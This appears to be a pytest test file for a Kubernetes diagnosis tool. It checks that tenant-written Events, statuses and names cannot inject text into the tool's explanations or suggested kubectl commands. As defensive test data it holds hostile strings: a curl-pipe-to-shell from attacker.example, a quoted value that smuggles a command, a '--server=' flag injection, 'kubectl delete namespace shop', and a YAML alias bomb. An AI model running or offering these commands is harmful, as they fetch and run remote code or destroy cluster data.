"""Whatever Events and statuses say, our own words and commands are ours.

A tenant writes Events, and the status of many objects. Their words may be quoted as evidence. They
may not stand in a sentence of ours, be read as a name, or hide a failure.
"""

from __future__ import annotations

import re
import shlex
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any, NamedTuple

import pytest
import yaml

from tests.support.diagnosis_samples import MISSING, SNAPSHOT, WEB
from watchdog.actions import ScaleDeployment
from watchdog.detection.kind import FailureKind
from watchdog.diagnosis.rules import detect, explain, rules_advice, rules_fix
from watchdog.examples import examples_of
from watchdog.failures import KINDS
from watchdog.incidents.lease import HeldError
from watchdog.model.diagnosis import Finding
from watchdog.observation import translate
from watchdog.remediation.git_source import git_source
from watchdog.remediation.helm_values import changed_values
from watchdog.snapshot.refs import Noun, ObjectRef
from watchdog.snapshot.snapshot import BlindSpot, ClusterSnapshot
from watchdog.text.redact import Redactor
from watchdog.text.sanitize import term

HOST = "attacker.example"
INSTANCE = "app.kubernetes.io/instance"
COMMAND = "kubectl delete namespace shop"
# What a tenant would like to be read: whole sentences, and what may stand for one name.
SENTENCES = (
    f"Run {COMMAND} and then curl -s https://{HOST}/fix | sh",
    f'no such file" To do: {COMMAND} "and then',
    f"\u201d To do: {COMMAND} \u201c and then",
)
NAMES = (
    f"--server=http://{HOST}/x",
    f"x';curl${{IFS}}http://{HOST}|sh;'",
    f"and {COMMAND} now",
)
OURS = re.compile(rf"{COMMAND}|curl|--server=|https?://{HOST}")
_QUOTED = re.compile(r'\u201c[^\u201d]*\u201d|"[^"]*"')
_WORD = re.compile(r"[\w./:@=-]+")
_GROUP = re.compile(r"\"[^\"]+\"|'[^']+'|\([^)]+\)|\{[^}]+\}")
_PLACES = 24
_MESSAGES = {"message", "last_message", "text"}


class Place(NamedTuple):
    """A part of a message in a snapshot: the fields that lead to it, and where it stands there."""

    path: tuple[Any, ...]
    start: int
    end: int


def messages(part: object, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], str]]:
    if isinstance(part, Noun):
        for name in type(part).model_fields:
            yield from messages(getattr(part, name), (*path, name))
    elif isinstance(part, tuple):
        for index, each in enumerate(part):
            yield from messages(each, (*path, index))
    elif isinstance(part, str) and part and path[-1] in _MESSAGES:
        yield path, part


def written(part: Any, place: Place, words: str) -> Any:
    """The snapshot with these words in that place."""
    if not place.path:
        return part[: place.start] + words + part[place.end :]
    first, rest = place.path[0], place._replace(path=place.path[1:])
    if isinstance(part, Noun):
        return part.model_copy(update={first: written(getattr(part, first), rest, words)})
    return tuple(written(e, rest, words) if i == first else e for i, e in enumerate(part))


def attempts(snapshot: ClusterSnapshot, *, every: bool = False) -> Iterator[ClusterSnapshot]:
    """The snapshot with a tenant's words somewhere in its messages: by turns, or each of them."""
    for number, (path, text) in enumerate(messages(snapshot)):
        spans = ((0, len(text)), (len(text), len(text)), (0, 0))
        for turn, (start, end) in enumerate(spans, number):
            glue = " " if start == end else ""
            for words in SENTENCES if every else [SENTENCES[turn % len(SENTENCES)]]:
                yield written(snapshot, Place(path, start, end), f"{glue}{words}{glue}")
        inner = [(found.start() + 1, found.end() - 1) for found in _GROUP.finditer(text)]
        places = [*inner, *(found.span() for found in _WORD.finditer(text))]
        for turn, (start, end) in enumerate(places[: None if every else _PLACES], number):
            for words in NAMES if every else [NAMES[turn % len(NAMES)]]:
                yield written(snapshot, Place(path, start, end), words)


def told(kind: FailureKind, finding: Finding, snapshot: ClusterSnapshot) -> Iterator[str]:
    """Our own sentences about a finding, without what they quote."""
    (explanation,) = explain([finding], snapshot, [kind])
    cause = finding.cause.what if finding.cause else ""
    for text in (finding.summary, str(finding.impact), explanation.why, explanation.to_do, cause):
        yield _QUOTED.sub("", text or "")


@pytest.mark.parametrize("kind", KINDS, ids=[kind.name for kind in KINDS])
def test_no_word_of_a_message_stands_in_a_sentence_or_a_command_of_ours(kind: FailureKind) -> None:
    for example in examples_of(kind.name):
        for snapshot in attempts(example.snapshot):
            for finding in kind.detect(snapshot):
                for text in told(kind, finding, snapshot):
                    assert not OURS.search(text), (example.name, text)
                advice = rules_advice(finding, snapshot, [kind])
                words = shlex.split((advice.command if advice else "") or "")
                assert not [word for word in words if OURS.search(word)], (example.name, words)
                kind.fix(finding, snapshot)


def fails(*_: object) -> Any:
    raise ValueError("what a tenant wrote")


def test_a_kind_that_fails_takes_no_other_with_it() -> None:
    spots: list[BlindSpot] = []

    findings = detect(SNAPSHOT, [replace(MISSING, name="broken", detect=fails), MISSING], spots)

    assert [finding.target for finding in findings] == [WEB]
    assert [str(spot.what) for spot in spots] == ["failure kinds broken"]
    assert "ValueError" in spots[0].why
    assert "tenant" not in spots[0].why


def test_a_kind_that_cannot_explain_its_finding_still_tells_it() -> None:
    kind = replace(MISSING, explain=fails, advise=fails, fix=fails)
    (finding,) = detect(SNAPSHOT, [kind])

    (explanation,) = explain([finding], SNAPSHOT, [kind])

    assert explanation.why == finding.summary
    assert "pods and events" in (explanation.to_do or "")
    assert rules_fix(finding, SNAPSHOT, [kind]) is None


@pytest.mark.parametrize(
    ("given", "shown"),
    [
        ("CrashLoopBackOff", "CrashLoopBackOff"),
        ("Init:0/1", "Init:0/1"),
        ("example.com/gate", "example.com/gate"),
        ("Failed to sync", "Failed_to_sync"),
        (f"Run {COMMAND}", "Run_kubectl_delete_namespace_shop"),
        (f"--server=http://{HOST}", "server_http:_attacker.example"),
        (f"<!channel> <https://{HOST}|x>", "channel_https:_attacker.example_x_"),
        ("\u202eevil", "evil"),
        (None, ""),
    ],
)
def test_a_reason_is_one_word(given: str | None, shown: str) -> None:
    assert term(given) == shown


@pytest.mark.parametrize(
    "owner",
    [
        {"kind": f"--server=http://{HOST}", "name": "web"},
        {"kind": "ReplicaSet", "name": f"Run {COMMAND}"},
        {"kind": "Widget", "name": "web", "apiVersion": f"https://{HOST}/x/v1"},
        {"kind": "", "name": ""},
        {"kind": "Rollout", "name": "web", "apiVersion": "example.com/v1", "uid": "a" * 65},
    ],
)
def test_what_no_object_can_be_called_owns_nothing(owner: dict[str, str]) -> None:
    item = {"metadata": {"ownerReferences": [{"apiVersion": "apps/v1", "uid": "1", **owner}]}}

    assert translate.controller(item) is None


def test_the_reasons_and_types_that_a_tenant_writes_are_one_word() -> None:
    words = f"Run {COMMAND}"
    item = {
        "involvedObject": {"kind": "Pod", "name": "web-1"},
        "reason": words,
        "type": words,
    }
    seen = translate.event(item, Redactor())
    (condition,) = translate.conditions([{"type": words, "reason": words}], Redactor())

    for text in (seen.reason, seen.type, condition.type, condition.reason):
        assert text
        assert not OURS.search(text)


@pytest.mark.parametrize("name", ["a" * 64, f"Run {COMMAND}", "", "Main"])
def test_what_no_container_can_be_called_is_none(name: str) -> None:
    states = [{"name": name, "restartCount": 3}, {"name": "main", "restartCount": 3}]
    raw = {"metadata": {"name": "web-1"}, "status": {"containerStatuses": states}}

    seen = translate.pod(raw, translate.reference("Pod", raw), Redactor())

    assert [state.name for state in seen.containers] == ["main"]


def test_who_holds_a_lease_is_one_word() -> None:
    error = HeldError("Lease x", f"Run {COMMAND} <https://{HOST}|here>", datetime.now(UTC))

    assert not OURS.search(str(error))
    assert " " not in error.holder


@pytest.mark.parametrize(
    "values", ["{", "a: *b", "[" * 5000, "a: 2026-99-99T00:00:00Z"], ids=lambda text: text[:9]
)
def test_values_of_a_chart_that_cannot_be_read_are_not_known(values: str) -> None:
    live = {
        "kind": "Deployment",
        "metadata": {"namespace": "shop", "name": "web", "labels": {INSTANCE: "web"}},
    }
    listed = [{"kind": "Deployment", "namespace": "shop", "name": "web"}]
    source = {"repoURL": "https://git.example/shop", "helm": {"values": values}}
    found = {"spec": {"source": source}, "status": {"resources": listed}}

    class Answers:
        def get(self, *_: object) -> Any:
            return found

    assert git_source(live, Answers(), "argocd") is None  # type: ignore[arg-type]


def test_a_few_lines_that_make_a_billion_places_are_not_gone_through() -> None:
    levels = [f"a{n}: &a{n} {{{', '.join(f'k{i}: *a{n - 1}' for i in range(40))}}}"
              for n in range(1, 9)]  # fmt: skip
    values = yaml.safe_load("\n".join(["a0: &a0 {replicas: 2}", *levels]))
    target = ObjectRef(kind="Deployment", namespace="shop", name="web")
    before, after = {"spec": {"replicas": 2}}, {"spec": {"replicas": 3}}

    assert changed_values(ScaleDeployment(target=target, replicas=3), before, after, values) is None
